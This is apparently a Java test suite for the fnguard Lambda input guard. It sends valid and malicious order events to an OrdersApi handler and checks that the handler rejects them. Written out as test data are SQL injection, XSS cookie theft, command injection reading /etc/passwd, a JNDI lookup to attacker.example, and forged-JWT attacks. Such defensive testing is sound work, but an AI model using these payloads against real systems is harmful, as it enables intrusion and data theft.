package dev.fnguard.examples.drill;

import static dev.fnguard.examples.drill.SampleEvents.base64Body;
import static dev.fnguard.examples.drill.SampleEvents.body;
import static dev.fnguard.examples.drill.SampleEvents.edited;
import static dev.fnguard.examples.drill.SampleEvents.header;

import com.amazonaws.services.lambda.runtime.RequestStreamHandler;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.fnguard.GuardOptions;
import dev.fnguard.examples.OrdersApi;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;

/** {@code OrdersApi} under attack: AWS's sample HTTP events carrying benign and malicious orders. */
public final class OrdersApiDrill implements DrillSuite {

    /** A valid order. */
    public static final String VALID = "{\"sku\":\"ABC-123\",\"quantity\":2,\"note\":\"leave at the door\","
            + "\"email\":\"ana@example.com\"}";

    private final DrillTokens tokens = DrillTokens.create();

    @Override
    public String function() {
        return "OrdersApi";
    }

    /**
     * Every case but the flood comes from the one verified caller of the drill's tokens, within a
     * second: against {@code OrdersApi}'s 60 a minute with a burst of 10 most would be answered 429.
     * So that each shows its own defence, the suite raises the per-caller rate through the
     * environment, as an operator could; the flood cases below clear the override (a blank variable
     * is ignored) and run against the annotation's own budget, in their own instance.
     */
    @Override
    public Map<String, String> environment() {
        Map<String, String> env = new java.util.HashMap<>(tokens.environment());
        env.put("FNGUARD_CALLER_PER_MINUTE", "100000");
        env.put("FNGUARD_CALLER_BURST", "1000");
        return Map.copyOf(env);
    }

    /** Case environment that restores the declared budget: 60 a minute per caller, burst of 10. */
    private static final Map<String, String> DECLARED_BUDGET =
            Map.of("FNGUARD_CALLER_PER_MINUTE", "", "FNGUARD_CALLER_BURST", "");

    /**
     * A valid order from a given verified caller (the token's subject keys the caller's budget).
     *
     * @param subject the caller
     * @return the event
     */
    private Supplier<InputStream> validFrom(String subject) {
        return bearer(tokens.rs256(b -> b.subject(subject)));
    }

    @Override
    public RequestStreamHandler create(GuardOptions options) {
        return new OrdersApi(options);
    }

    /**
     * An HTTP API (v2) event posting a JSON body.
     *
     * @param json the body
     * @return the event
     */
    public Supplier<InputStream> v2(String json) {
        return v2(e -> body(e, json));
    }

    /**
     * A sample event carrying a valid bearer token, changed by {@code edit} (which may replace the
     * token or remove the header).
     *
     * @param name the sample
     * @param edit the change
     * @return the event
     */
    public Supplier<InputStream> authed(String name, Consumer<ObjectNode> edit) {
        String token = tokens.valid();
        return edited(name, e -> {
            header(e, "Authorization", "Bearer " + token);
            edit.accept(e);
        });
    }

    private Supplier<InputStream> bearer(String token) {
        return v2(e -> {
            body(e, VALID);
            header(e, "Authorization", "Bearer " + token);
        });
    }

    /**
     * An HTTP API (v2) POST with a JSON content type and a valid token, changed by {@code edit}.
     *
     * @param edit the change
     * @return the event
     */
    public Supplier<InputStream> v2(Consumer<ObjectNode> edit) {
        return authed("apigw_http_event.json", e -> {
            ((ObjectNode) e.get("requestContext").get("http")).put("method", "POST");
            e.put("rawPath", "/orders");
            e.put("routeKey", "POST /orders");
            header(e, "content-type", "application/json");
            edit.accept(e);
        });
    }

    @Override
    public List<DrillCase> cases() {
        List<DrillCase> c = new ArrayList<>();
        c.add(DrillCase.of("valid order, HTTP API v2", Expect.allow(201), v2(VALID)));
        c.add(DrillCase.of("valid order, REST API v1", Expect.allow(201), authed("apigw_rest_event.json", e -> {
            e.put("httpMethod", "POST");
            e.put("resource", "/orders");
            e.put("path", "/orders");
            header(e, "Content-Type", "application/json");
            body(e, VALID);
        })));
        c.add(DrillCase.of("valid order, Function URL", Expect.allow(201),
                authed("lambdaFunctionUrlEvent.json", e -> {
                    ((ObjectNode) e.get("requestContext").get("http")).put("method", "POST");
                    header(e, "content-type", "application/json; charset=utf-8");
                    body(e, VALID);
                })));
        c.add(DrillCase.of("valid order, ALB over HTTPS", Expect.allow(201), authed("elb_event.json", e -> {
            e.put("httpMethod", "POST");
            header(e, "x-forwarded-proto", "https");
            header(e, "content-type", "application/json");
            body(e, VALID);
        })));
        c.add(DrillCase.of("valid order, base64 body", Expect.allow(201),
                v2(e -> base64Body(e, VALID.getBytes(StandardCharsets.UTF_8)))));
        c.add(DrillCase.of("ALB over plain HTTP", Expect.deny(403, "TLS_REQUIRED"), authed("elb_event.json", e -> {
            e.put("httpMethod", "POST");
            header(e, "content-type", "application/json");
            body(e, VALID);
        })));
        c.add(DrillCase.of("GET instead of POST", Expect.deny(405, "METHOD"),
                v2(e -> ((ObjectNode) e.get("requestContext").get("http")).put("method", "GET"))));
        c.add(DrillCase.of("form post (text/plain)", Expect.deny(415, "CONTENT_TYPE"), v2(e -> {
            header(e, "content-type", "text/plain");
            body(e, VALID);
        })));
        c.add(DrillCase.of("unknown field (mass assignment)", Expect.deny(400, "UNKNOWN_FIELD"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":2,\"price\":0}")));
        c.add(DrillCase.of("quantity as a string", Expect.deny(400, "TYPE"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":\"2\"}")));
        c.add(DrillCase.of("quantity as a float", Expect.deny(400, "TYPE"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":2.5}")));
        c.add(DrillCase.of("quantity over 1000", Expect.deny(400, "CONSTRAINT"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":1001}")));
        c.add(DrillCase.of("sku with quote", Expect.deny(400, "CONSTRAINT"),
                v2("{\"sku\":\"ABC' OR '1'='1\",\"quantity\":1}")));
        c.add(DrillCase.of("note over 280 characters", Expect.deny(400, "CONSTRAINT"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":1,\"note\":\"" + "x".repeat(281) + "\"}")));
        c.add(DrillCase.of("invalid e-mail", Expect.deny(400, "CONSTRAINT"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":1,\"email\":\"not-an-address\"}")));
        c.add(DrillCase.of("missing sku", Expect.deny(400, "CONSTRAINT"), v2("{\"quantity\":1}")));
        c.add(DrillCase.of("duplicate key (parser confusion)", Expect.deny(400, "DUPLICATE_KEY"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":1,\"quantity\":1000000}")));
        c.add(DrillCase.of("trailing garbage", Expect.deny(400, "TRAILING_DATA"),
                v2(VALID + "{\"sku\":\"X\"}")));
        c.add(DrillCase.of("malformed JSON", Expect.deny(400, "MALFORMED"), v2("{\"sku\":\"ABC-123\",")));
        c.add(DrillCase.of("empty body", Expect.deny(400, "EMPTY_BODY"), v2(e -> body(e, ""))));
        c.add(DrillCase.of("non-UTF-8 bytes (base64)", Expect.deny(400, "ENCODING"),
                v2(e -> base64Body(e, new byte[] {'{', '"', 's', 'k', 'u', '"', ':', '"', (byte) 0xC0, (byte) 0xAF,
                    '"', '}'}))));
        c.add(DrillCase.of("UTF-16 body (base64)", Expect.deny(400, "ENCODING"),
                v2(e -> base64Body(e, VALID.getBytes(StandardCharsets.UTF_16BE)))));
        c.add(DrillCase.of("nesting 64 deep", Expect.deny(413, "LIMIT_DEPTH"),
                v2("{\"sku\":" + "[".repeat(64) + "]".repeat(64) + "}")));
        c.add(DrillCase.of("100 000 levels of nesting", Expect.deny(413, "LIMIT_BODY"),
                v2("[".repeat(100_000) + "]".repeat(100_000))));
        c.add(DrillCase.of("300 keys in one object", Expect.deny(413, "LIMIT_FIELDS"), v2(manyKeys(300))));
        c.add(DrillCase.of("array of 2000 elements", Expect.deny(413, "LIMIT_ARRAY"),
                v2("{\"sku\":[" + "0,".repeat(1999) + "0]}")));
        c.add(DrillCase.of("17 KiB body", Expect.deny(413, "LIMIT_BODY"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":1,\"note\":\"" + "x".repeat(17 * 1024) + "\"}")));
        c.add(DrillCase.of("100 MB body (streamed)", Expect.deny(413, "LIMIT_BODY"),
                SampleEvents.hugeV2(100L * 1024 * 1024)));
        c.add(DrillCase.of("direct invoke, not an HTTP event", Expect.deny(400, "UNSUPPORTED_EVENT"),
                () -> new ByteArrayInputStream(VALID.getBytes(StandardCharsets.UTF_8))));
        c.add(DrillCase.of("monitor mode: unknown field flagged", Expect.flag(201, "UNKNOWN_FIELD"),
                v2("{\"sku\":\"ABC-123\",\"quantity\":2,\"price\":0}"))
                .withEnvironment(Map.of("FNGUARD_MODE", "monitor")));
        c.add(DrillCase.of("burst of 10 from one caller, all served", Expect.allow(201), validFrom("burst-caller"))
                .repeated(10).withEnvironment(DECLARED_BUDGET));
        c.add(DrillCase.of("flood: 12 at once from one caller, last refused", Expect.deny(429, "RATE"),
                validFrom("flood-caller")).repeated(12).withEnvironment(DECLARED_BUDGET));
        c.add(DrillCase.of("another caller during the flood", Expect.allow(201), validFrom("patient-caller"))
                .withEnvironment(DECLARED_BUDGET));
        authCases(c);
        // injection detection on every string (note above all): each detector on a real payload, and a look-alike passing
        c.add(DrillCase.of("note: SQL injection (sqlmap boolean)", Expect.deny(400, "INJECTION_SQL"),
                v2(order("1' AND 5678=5678 AND 'abc'='abc"))));
        c.add(DrillCase.of("note: look-alike \"O'Brien, select a size\"", Expect.allow(201),
                v2(order("O'Brien, select a size"))));
        c.add(DrillCase.of("note: script (svg onload)", Expect.deny(400, "INJECTION_XSS"),
                v2(order("<svg/onload=alert(document.cookie)>"))));
        c.add(DrillCase.of("note: look-alike \"size < 5 and > 3\"", Expect.allow(201),
                v2(order("size < 5 and > 3 please"))));
        c.add(DrillCase.of("note: command injection", Expect.deny(400, "INJECTION_COMMAND"),
                v2(order("door; cat /etc/passwd"))));
        c.add(DrillCase.of("note: look-alike \"Tom & Jerry; ring twice\"", Expect.allow(201),
                v2(order("Tom & Jerry; ring twice"))));
        c.add(DrillCase.of("note: template / JNDI lookup", Expect.deny(400, "INJECTION_TEMPLATE"),
                v2(order("${jndi:ldap://attacker.example/a}"))));
        c.add(DrillCase.of("note: look-alike \"costs $5 {approx}\"", Expect.allow(201),
                v2(order("costs $5 {approx}"))));
        c.add(DrillCase.of("note: double URL-encoded SQL", Expect.deny(400, "INJECTION_SQL"),
                v2(order("x%2527%2520OR%25201%253D1--"))));
        c.add(DrillCase.of("query parameter: UNION SELECT", Expect.deny(400, "INJECTION_SQL"), v2(e -> {
            body(e, VALID);
            ((ObjectNode) e.with("queryStringParameters")).put("ref", "1 UNION SELECT password FROM users");
            e.put("rawQueryString", "ref=1%20UNION%20SELECT%20password%20FROM%20users");
        })));
        return c;
    }

    private void authCases(List<DrillCase> c) {
        c.add(DrillCase.of("valid ES256 token", Expect.allow(201), bearer(tokens.es256())));
        c.add(DrillCase.of("no token", Expect.deny(401, "TOKEN_MISSING"), v2(e -> {
            body(e, VALID);
            ((ObjectNode) e.get("headers")).remove("Authorization");
        })));
        c.add(DrillCase.of("Basic credentials instead of a token", Expect.deny(401, "TOKEN_MISSING"), v2(e -> {
            body(e, VALID);
            header(e, "Authorization", "Basic YWRtaW46YWRtaW4=");
        })));
        c.add(DrillCase.of("token: alg none", Expect.deny(401, "TOKEN_INVALID"), bearer(tokens.algNone())));
        c.add(DrillCase.of("token: RS256 re-signed as HS256 with the public key", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.hs256WithPublicKey())));
        c.add(DrillCase.of("token: expired", Expect.deny(401, "TOKEN_EXPIRED"), bearer(tokens.rs256(b -> b
                .issueTime(new java.util.Date(System.currentTimeMillis() - 7_200_000))
                .expirationTime(new java.util.Date(System.currentTimeMillis() - 600_000))))));
        c.add(DrillCase.of("token: not yet valid", Expect.deny(401, "TOKEN_INVALID"), bearer(tokens.rs256(b -> b
                .notBeforeTime(new java.util.Date(System.currentTimeMillis() + 3_600_000))))));
        c.add(DrillCase.of("token: never expires", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.rs256(b -> b.expirationTime(null)))));
        c.add(DrillCase.of("token: wrong issuer", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.rs256(b -> b.issuer("https://evil.example/")))));
        c.add(DrillCase.of("token: wrong audience", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.rs256(b -> b.audience("payments-api")))));
        c.add(DrillCase.of("token: kid path traversal", Expect.deny(401, "TOKEN_INVALID"), bearer(tokens.kidTraversal())));
        c.add(DrillCase.of("token: kid SQL injection", Expect.deny(401, "TOKEN_INVALID"), bearer(tokens.kidSql())));
        c.add(DrillCase.of("token: jku names the attacker's keys", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.jkuAttack())));
        c.add(DrillCase.of("token: embedded jwk of the attacker", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.embeddedJwkAttack())));
        c.add(DrillCase.of("token: ECDSA r=s=0 (psychic signature)", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.psychicSignature())));
        String valid = tokens.valid();
        c.add(DrillCase.of("token: truncated", Expect.deny(401, "TOKEN_INVALID"),
                bearer(valid.substring(0, valid.length() - 12))));
        c.add(DrillCase.of("token: malformed base64", Expect.deny(401, "TOKEN_INVALID"),
                bearer(valid.substring(0, 10) + "%%" + valid.substring(12))));
        c.add(DrillCase.of("token: 20 KB", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.rs256(b -> b.claim("pad", "x".repeat(20_000))))));
        c.add(DrillCase.of("token: unknown crit header", Expect.deny(401, "TOKEN_INVALID"), bearer(tokens.unknownCrit())));
        c.add(DrillCase.of("token: JWE where a JWS is expected", Expect.deny(401, "TOKEN_INVALID"),
                bearer(tokens.encrypted())));
        c.add(DrillCase.of("token without orders:write", Expect.deny(403, "SCOPE"),
                bearer(tokens.rs256(b -> b.claim("scope", "orders:read")))));
        c.add(DrillCase.of("issuer and JWKS unset: fail closed", Expect.deny(401, "TOKEN_INVALID"), bearer(valid))
                .withEnvironment(Map.of("FNGUARD_JWT_ISSUER", "", "FNGUARD_JWKS_URL", "")));
        c.add(DrillCase.of("JWKS endpoint down at cold start", Expect.deny(503, "KEYS_UNAVAILABLE"), bearer(valid))
                .withEnvironment(Map.of("FNGUARD_JWKS_URL", tokens.jwksUrl() + ".gone")));
    }

    private static String manyKeys(int n) {
        StringBuilder sb = new StringBuilder("{\"sku\":\"ABC-123\",\"quantity\":1");
        for (int i = 0; i < n; i++) {
            sb.append(",\"k").append(i).append("\":1");
        }
        return sb.append('}').toString();
    }

    private static String order(String note) {
        return "{\"sku\":\"ABC-123\",\"quantity\":1,\"note\":" + quote(note) + ",\"email\":\"ana@example.com\"}";
    }

    private static String quote(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
